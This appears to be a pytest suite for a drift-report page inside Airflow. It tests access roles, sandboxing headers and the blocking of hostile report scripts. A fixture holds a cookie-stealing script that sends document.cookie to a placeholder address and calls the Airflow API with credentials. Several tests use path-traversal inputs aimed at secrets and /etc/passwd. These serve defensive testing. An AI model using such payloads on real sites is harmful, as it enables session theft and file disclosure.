"""Drift reports inside Airflow: who reads them, and that their scripts reach nothing."""

import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from nightledger import drift_reports
from nightledger.settings import Settings

PUBLICATION, MODEL = "2026-03-31.1", "churn.demo_bank"
PAGE = f"/nightledger/reports/{PUBLICATION}/{MODEL}"
NAUGHTY = """<html><body><script src="../../evidently-0.7.23.js"></script><script>
(async () => {
  const told = {};
  try { told.cookie = document.cookie; } catch (error) { told.cookie = error.name; }
  try { told.answer = (await fetch(ADDRESS + "/api/v2/dags", {credentials: "include"})).status; }
  catch (error) { told.answer = error.name; }
  try { told.above = parent.document.title; } catch (error) { told.above = error.name; }
  const picture = new Image(); picture.src = ADDRESS + "/taken?" + told.cookie;
  told.ran = window.evidently_is_here;
  document.body.dataset.told = JSON.stringify(told);
})();
</script></body></html>"""
"""A report whose script takes what it can."""


def write_reports(settings: Settings, html: str = NAUGHTY) -> None:
    """Two publications: one with a report, one on which no model worked."""
    root = settings.home / "reports"
    row = {"model": MODEL, "version": "v-1", "as_of_date": "2026-03-31"}
    reports = [
        row
        | {
            "kind": "data",
            "title": "Data drift and quality",
            "why_not": "",
            "rows": 864,
            "reference_rows": 5624,
        }
        | {
            "headline": "6 of 65 columns drifted",
            "drifted": 6,
            "compared": 65,
            "left_out": [],
            "bytes": 3_000_000,
        },
        row
        | {
            "kind": "classification",
            "title": "Performance",
            "why_not": "None of its scores <has> met its outcome.",
        },
    ]
    for name, nothing, rows in (
        (PUBLICATION, "", reports),
        ("2026-02-28.10", "No model worked on this publication.", []),
        ("2026-02-28.9", "No model worked on this publication.", []),
    ):
        folder = drift_reports.folder(settings, name)
        folder.mkdir(parents=True, exist_ok=True)
        index = {"publication": name, "as_of_date": name[:10], "nothing": nothing, "reports": rows}
        (folder / drift_reports.INDEX).write_text(json.dumps(index))
    (root / PUBLICATION / MODEL).mkdir(exist_ok=True)
    (root / PUBLICATION / MODEL / "data.html").write_text(html)
    (root / PUBLICATION / MODEL / "data.json").write_text('{"metrics": []}')
    (root / "evidently-0.7.23.js").write_text("window.evidently_is_here = true;")


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    monkeypatch.setenv("NIGHTLEDGER_HOME", str(tmp_path))
    write_reports(Settings())
    return Settings()


def test_the_list_says_what_each_report_comes_to(airflow_app, log_in, home) -> None:
    """Catches a page without the figures, or one that hides why there is no report."""
    page = airflow_app.get("/nightledger/reports", headers=log_in("viewer"))
    assert page.status_code == 200
    assert f'href="{PAGE}?kind=data"' in page.text
    assert "6 of 65 columns drifted" in page.text
    assert "None of its scores &lt;has&gt; met its outcome." in page.text
    names = [page.text.index(name) for name in (PUBLICATION, "2026-02-28.10", "2026-02-28.9")]
    assert names == sorted(names), "newest first"
    assert "No model worked on this publication." in page.text


def test_a_model_has_its_report_in_a_frame(airflow_app, log_in, home) -> None:
    """Catches a policy that forbids the frame, or one that lets the report be more than a frame."""
    page = airflow_app.get(PAGE, headers=log_in("data_scientist"))
    assert f'src="{PAGE}/data.html"' in page.text
    assert 'sandbox="allow-scripts allow-downloads"' in page.text
    assert "frame-src 'self'" in page.headers["content-security-policy"]
    assert airflow_app.get(f"{PAGE}x", headers=log_in("viewer")).status_code == 404


def test_a_report_comes_shut_in(airflow_app, log_in, home) -> None:
    """Catches a report that is served as a page of Airflow, with all that its reader may do."""
    report = airflow_app.get(f"{PAGE}/data.html", headers=log_in("viewer"))
    policy = report.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts allow-downloads;")
    assert "allow-same-origin" not in policy
    for part in ("default-src 'none'", "connect-src 'none'", "frame-ancestors 'self'"):
        assert part in policy
    assert report.headers["x-content-type-options"] == "nosniff"
    assert "<script>window.evidently_is_here = true;</script>" in report.text, "it needs nothing else"
    figures = airflow_app.get(f"{PAGE}/data.json", headers=log_in("viewer"))
    assert figures.json() == {"metrics": []}
    assert figures.headers["content-disposition"] == f'attachment; filename="{PUBLICATION}-{MODEL}-data.json"'


def test_who_may_not_read_reports_gets_none(airflow_app, log_in, home) -> None:
    """Catches a report that anybody reads who knows its address."""
    for path in ("/nightledger/reports", PAGE, f"{PAGE}/data.html", f"{PAGE}/data.json"):
        assert airflow_app.get(path).status_code == 401
        assert airflow_app.get(path, headers=log_in("fraud_desk")).status_code == 403
        assert airflow_app.get(path, headers=log_in("admin")).status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "..%2f..%2foperations/x/data.html",
        f"{PUBLICATION}/..%2f..%2f..%2fsecrets/data.html",
        f"{PUBLICATION}/{MODEL}/..%2f..%2freports.json",
        f"{PUBLICATION}/{MODEL}/..%2freports.json",
        f"{PUBLICATION}/{MODEL}/%2fetc%2fpasswd.html",
        f"{PUBLICATION}/{MODEL}/data.snapshot.gz",
        f"{PUBLICATION}/{MODEL}/.html",
        f"{PUBLICATION}/../{PUBLICATION}/{MODEL}/nothing.html",
    ],
)
def test_nothing_but_a_report_can_be_reached(airflow_app, log_in, home, path: str) -> None:
    """Catches a name from outside that climbs out of the folder of reports."""
    (home.home / "secrets").mkdir()
    (home.home / "secrets" / "data.html").write_text("secret")
    answer = airflow_app.get(f"/nightledger/reports/{path}", headers=log_in("admin"))
    assert answer.status_code == 404
    assert "secret" not in answer.text


@pytest.fixture
def address(home: Settings) -> Iterator[str]:
    """A server that sends what the routes send, beside an address that only our own pages may ask."""
    import uvicorn
    from fastapi import FastAPI, Request, Response

    from nightledger.pages import reports

    app = FastAPI()
    asked: list[str] = []
    app.state.asked = asked
    app.get(f"{PAGE}/{{file}}")(lambda file: reports.report_file(PUBLICATION, MODEL, file))
    app.get(PAGE)(lambda: reports.model_page(PUBLICATION, MODEL))

    @app.get("/{path:path}")
    def others(request: Request, path: str) -> Response:
        asked.append(f"{path} {request.cookies.get('_token', 'nobody')}")
        answer = Response("<title>secret</title>", media_type="text/html")
        answer.set_cookie("_token", "admin")
        return answer

    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        port = found.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="error"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    write_reports(home, NAUGHTY.replace("ADDRESS", f'"http://127.0.0.1:{port}"'))
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join()
    told = [line for line in asked if line not in ("login nobody", "login admin", "favicon.ico admin")]
    assert told == [], "nothing but our own pages was asked"


@pytest.mark.slow
@pytest.mark.parametrize("path", [f"{PAGE}/data.html", PAGE])
def test_a_script_in_a_report_reaches_nothing(address: str, path: str) -> None:
    """Catches a report, alone or in its frame, that reads the cookie or asks Airflow as its reader."""
    from playwright.sync_api import sync_playwright

    arguments = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"]
    with sync_playwright() as player:
        browser = player.chromium.launch(executable_path=Settings().browser, args=arguments)
        page = browser.new_page()
        page.goto(f"{address}/login")
        assert page.evaluate("document.cookie") == "_token=admin", "there is something to take"
        page.goto(f"{address}{path}")
        report = page.frames[-1]
        report.wait_for_selector("body[data-told]")
        told = json.loads(report.get_attribute("body", "data-told") or "")
        browser.close()
    assert told["ran"] is True, "the report's own scripts run"
    assert told["cookie"] == "SecurityError"
    assert told["answer"] == "TypeError", "the request is not even sent"
    if path == PAGE:
        assert told["above"] == "SecurityError"
